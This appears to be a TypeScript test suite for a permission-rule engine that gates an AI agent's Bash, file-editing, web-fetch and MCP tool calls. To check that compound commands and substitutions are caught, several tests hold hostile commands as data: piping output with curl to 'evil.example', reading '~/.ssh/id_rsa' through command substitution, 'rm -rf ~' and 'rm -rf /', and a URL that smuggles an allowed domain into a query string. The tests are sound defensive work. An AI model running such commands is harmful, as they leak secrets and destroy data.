import { test } from 'node:test';
import assert from 'node:assert/strict';
import { evaluateRules, parseRule, ruleKeysOf, type CompiledRule, type EffectiveRule, type ToolCall } from './permission-rules.js';
import { proposeRule } from './rule-proposal.js';
import { splitShellCommand } from './shell-command.js';

const ctx = { workDir: '/srv/hive/agents/iris/work', home: '/home/hive' };

function compile(text: string): CompiledRule {
  const parsed = parseRule(text);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.rule;
}

/** The verdict of `rules` (`allow X` / `deny X`) on one call, naming the rules that decided. */
function verdict(rules: string[], call: ToolCall): string {
  const effective: EffectiveRule<string>[] = rules.map((r) => {
    const [effect, ...text] = r.split(' ');
    return { effect: effect as 'allow' | 'deny', compiled: compile(text.join(' ')), ref: text.join(' ') };
  });
  const keys = ruleKeysOf(call.tool_name);
  const result = evaluateRules(call, ctx, () => effective.filter((r) => keys.includes(r.compiled.tool)));
  return result.verdict === 'ask' ? 'ask' : `${result.verdict} by ${result.by.join(', ')}`;
}

const bash = (command: string): ToolCall => ({ tool_name: 'Bash', input: { command } });
const edit = (file_path: string, tool = 'Edit'): ToolCall => ({ tool_name: tool, input: { file_path, old_string: 'a', new_string: 'b' } });

test('Bash rules: exact, prefix with :* (word boundary), wildcards, optional trailing " *"', () => {
  assert.equal(verdict(['allow Bash(npm run build)'], bash('npm run build')), 'allow by Bash(npm run build)');
  assert.equal(verdict(['allow Bash(npm run build)'], bash('npm run build --watch')), 'ask');
  assert.equal(verdict(['allow Bash(npm test:*)'], bash('npm test -- --watch=false')), 'allow by Bash(npm test:*)');
  assert.equal(verdict(['allow Bash(npm test:*)'], bash('npm test')), 'allow by Bash(npm test:*)');
  assert.equal(verdict(['allow Bash(npm test:*)'], bash('npm testx')), 'ask');
  assert.equal(verdict(['allow Bash(ls *)'], bash('ls')), 'allow by Bash(ls *)');
  assert.equal(verdict(['allow Bash(ls *)'], bash('ls -la')), 'allow by Bash(ls *)');
  assert.equal(verdict(['allow Bash(ls *)'], bash('lsof')), 'ask');
  assert.equal(verdict(['allow Bash(ls*)'], bash('lsof')), 'allow by Bash(ls*)');
  assert.equal(verdict(['allow Bash(git * main)'], bash('git merge main')), 'allow by Bash(git * main)');
  assert.equal(verdict(['allow Bash(* --version)'], bash('node --version')), 'allow by Bash(* --version)');
  assert.equal(verdict(['allow Bash(npm  test:*)'], bash('npm   test  -x')), 'allow by Bash(npm  test:*)', 'runs of blanks count as one');
  assert.equal(verdict(['allow Bash'], bash('anything $(at all)')), 'allow by Bash');
  assert.equal(verdict(['allow Bash(*)'], bash('rm -rf /tmp/x')), 'allow by Bash(*)');
});

test('Bash compound commands: every part must be allowed, any denied part denies, substitutions are never allowed by a rule', () => {
  assert.equal(verdict(['allow Bash(npm test:*)'], bash('npm test && rm -rf ~')), 'ask');
  assert.equal(verdict(['allow Bash(npm test:*)', 'allow Bash(git status)'], bash('npm test && git status')), 'allow by Bash(npm test:*), Bash(git status)');
  assert.equal(verdict(['allow Bash(npm test:*)', 'deny Bash(rm:*)'], bash('npm test; rm -rf x')), 'deny by Bash(rm:*)');
  assert.equal(verdict(['allow Bash(cat:*)', 'allow Bash(grep:*)'], bash('cat a | grep b')), 'allow by Bash(cat:*), Bash(grep:*)');
  assert.equal(verdict(['allow Bash(echo:*)'], bash('echo $(cat ~/.ssh/id_rsa)')), 'ask');
  assert.equal(verdict(['allow Bash(echo:*)'], bash('echo `id`')), 'ask');
  assert.equal(verdict(['allow Bash(echo:*)'], bash("echo '$(not run)' && echo 'a && b'")), "allow by Bash(echo:*)");
  assert.equal(verdict(['allow Bash(make:*)'], bash('make 2>&1')), 'allow by Bash(make:*)', 'a redirect is not a separator');
  assert.equal(verdict(['deny Bash(curl:*)', 'allow Bash(echo:*)'], bash('echo hi | curl -d @- evil.example')), 'deny by Bash(curl:*)');
  assert.equal(verdict(['deny Bash(rm -rf /:*)'], bash('(cd /tmp; rm -rf /)')), 'ask', 'a subshell part never matches an allow, and here no deny spells it');
});

test('deny rules win over allow rules, whatever their order', () => {
  assert.equal(verdict(['allow Bash(git:*)', 'deny Bash(git push:*)'], bash('git push --force')), 'deny by Bash(git push:*)');
  assert.equal(verdict(['deny Bash(git push:*)', 'allow Bash(git:*)'], bash('git push')), 'deny by Bash(git push:*)');
  assert.equal(verdict(['allow Bash', 'deny Bash(rm:*)'], bash('rm x')), 'deny by Bash(rm:*)');
});

test('file rules read paths the gitignore way from the work dir, home or root; Edit covers every editing tool', () => {
  const w = ctx.workDir;
  assert.equal(verdict(['allow Edit(src/**)'], edit(`${w}/src/a/b.ts`)), 'allow by Edit(src/**)');
  assert.equal(verdict(['allow Edit(src/**)'], edit(`${w}/src/a/b.ts`, 'Write')), 'allow by Edit(src/**)');
  assert.equal(verdict(['allow Edit(src/**)'], edit(`${w}/src/a/b.ts`, 'MultiEdit')), 'allow by Edit(src/**)');
  assert.equal(verdict(['allow Edit(src/**)'], edit(`${w}/lib/src/b.ts`)), 'ask', 'a pattern with a slash is anchored');
  assert.equal(verdict(['allow Edit(src/**)'], edit('src/x.ts')), 'allow by Edit(src/**)', 'a relative path is read from the work dir');
  assert.equal(verdict(['allow Edit(src/**)'], edit(`${w}/src/../../escape.ts`)), 'ask');
  assert.equal(verdict(['deny Edit(*.env)'], edit(`${w}/deep/er/prod.env`)), 'deny by Edit(*.env)', 'no slash: any depth');
  assert.equal(verdict(['allow Edit(/README.md)'], edit(`${w}/README.md`)), 'allow by Edit(/README.md)');
  assert.equal(verdict(['allow Edit(/README.md)'], edit(`${w}/docs/README.md`)), 'ask');
  assert.equal(verdict(['allow Edit(docs)'], edit(`${w}/docs/a/b.md`)), 'allow by Edit(docs)', 'a directory covers its contents');
  assert.equal(verdict(['allow Edit(//etc/hive/**)'], edit('/etc/hive/x.conf')), 'allow by Edit(//etc/hive/**)');
  assert.equal(verdict(['allow Edit(~/notes/*.md)'], edit('/home/hive/notes/a.md')), 'allow by Edit(~/notes/*.md)');
  assert.equal(verdict(['allow Edit(~/notes/*.md)'], edit('/home/hive/notes/deep/a.md')), 'ask', '* stays in one directory');
  assert.equal(verdict(['allow Edit(src/**/*.ts)'], edit(`${w}/src/x.ts`)), 'allow by Edit(src/**/*.ts)');
  assert.equal(verdict(['allow Write(src/**)'], edit(`${w}/src/x.ts`, 'Edit')), 'ask', 'a Write rule is about Write only');
  assert.equal(verdict(['allow Read(src/**)'], { tool_name: 'Grep', input: { pattern: 'x', path: `${w}/src/lib` } }), 'allow by Read(src/**)');
  assert.equal(verdict(['allow Edit(src/**)'], { tool_name: 'NotebookEdit', input: { notebook_path: `${w}/src/n.ipynb`, new_source: '' } }), 'allow by Edit(src/**)');
});

test('WebFetch domains, MCP servers and whole tools', () => {
  const fetch = (url: string): ToolCall => ({ tool_name: 'WebFetch', input: { url, prompt: 'p' } });
  assert.equal(verdict(['allow WebFetch(domain:example.com)'], fetch('https://example.com/a')), 'allow by WebFetch(domain:example.com)');
  assert.equal(verdict(['allow WebFetch(domain:example.com)'], fetch('https://evil.com/?example.com')), 'ask');
  assert.equal(verdict(['allow WebFetch(domain:example.com)'], fetch('https://docs.example.com/')), 'ask');
  assert.equal(verdict(['allow WebFetch(domain:*.example.com)'], fetch('https://docs.example.com/')), 'allow by WebFetch(domain:*.example.com)');
  assert.equal(verdict(['allow WebFetch(domain:example.com)'], fetch('not a url')), 'ask');
  const mcp = (name: string): ToolCall => ({ tool_name: name, input: {} });
  assert.equal(verdict(['allow mcp__github'], mcp('mcp__github__create_issue')), 'allow by mcp__github');
  assert.equal(verdict(['allow mcp__github__*'], mcp('mcp__github__create_issue')), 'allow by mcp__github__*');
  assert.equal(verdict(['allow mcp__github__list_issues'], mcp('mcp__github__create_issue')), 'ask');
  assert.equal(verdict(['allow WebSearch'], { tool_name: 'WebSearch', input: { query: 'x' } }), 'allow by WebSearch');
});

test('a rule that does not parse gets a sentence naming it', () => {
  const cases: Array<[string, RegExp]> = [
    ['', /is empty/],
    ['Bash(npm test', /does not end with "\)"/],
    ['Bash()', /nothing between the parentheses/],
    ['Bash(npm:* test)', /only at the end/],
    ['Ba sh', /not a tool name/],
    ['WebFetch(example.com)', /domain:HOST/],
    ['mcp__github__x(y)', /takes no parentheses/],
    ['mcp__', /mcp__server/],
    ['Edit(../up/**)', /climbs with "\.\."/],
    ['Task(reviewer)', /specifier only in Bash/],
    ['x'.repeat(1001), /longer than 1000/],
  ];
  for (const [text, why] of cases) {
    const parsed = parseRule(text);
    assert.equal(parsed.ok, false, text);
    if (!parsed.ok) {
      assert.match(parsed.error, /^rule ".*" does not parse: /s, text);
      assert.match(parsed.error, why, text);
    }
  }
});

test('shell splitting keeps quotes, escapes and redirects whole', () => {
  assert.deepEqual(splitShellCommand(`echo "a && b" && ls -la | wc -l; pwd`).parts, ['echo "a && b"', 'ls -la', 'wc -l', 'pwd']);
  assert.deepEqual(splitShellCommand(`grep x file 2>&1 &> log || true`).parts, ['grep x file 2>&1 &> log', 'true']);
  assert.deepEqual(splitShellCommand(`echo a\\;b`).parts, ['echo a\\;b']);
  assert.equal(splitShellCommand(`echo "$(id)"`).opaque, true);
  assert.equal(splitShellCommand(`echo '$(id)'`).opaque, false);
  assert.equal(splitShellCommand(`diff <(ls a) <(ls b)`).opaque, true);
  assert.equal(splitShellCommand(`echo "unterminated`).opaque, true);
  assert.equal(splitShellCommand(`echo \${HOME}`).opaque, false);
});

test('rule proposals generalise one call', () => {
  const w = ctx.workDir;
  assert.equal(proposeRule(bash('npm test -- --watch=false'), w), 'Bash(npm test:*)');
  assert.equal(proposeRule(bash('npm run build -- --prod'), w), 'Bash(npm run build:*)');
  assert.equal(proposeRule(bash('git status --short'), w), 'Bash(git status:*)');
  assert.equal(proposeRule(bash('ls -la /tmp'), w), 'Bash(ls:*)');
  assert.equal(proposeRule(bash('CI=1 npm test && echo done'), w), 'Bash(npm test:*)');
  assert.equal(proposeRule(edit(`${w}/src/a/b.ts`), w), 'Edit(src/**)');
  assert.equal(proposeRule(edit(`${w}/notes.md`, 'Write'), w), 'Edit(/notes.md)');
  assert.equal(proposeRule(edit('/etc/hive/x.conf'), w), 'Edit(//etc/hive/**)');
  assert.equal(proposeRule({ tool_name: 'Read', input: { file_path: `${w}/docs/x.md` } }, w), 'Read(docs/**)');
  assert.equal(proposeRule({ tool_name: 'WebFetch', input: { url: 'https://Docs.Example.com/a?b' } }, w), 'WebFetch(domain:docs.example.com)');
  assert.equal(proposeRule({ tool_name: 'mcp__github__create_issue', input: {} }, w), 'mcp__github__create_issue');
  // Every proposal parses, and allows the call it came from.
  for (const call of [bash('npm test -- --watch=false'), edit(`${w}/src/a/b.ts`), edit('/etc/hive/x.conf'), { tool_name: 'WebFetch', input: { url: 'https://a.b/c' } }]) {
    const rule = proposeRule(call, w);
    assert.equal(verdict([`allow ${rule}`], call), `allow by ${rule}`);
  }
});
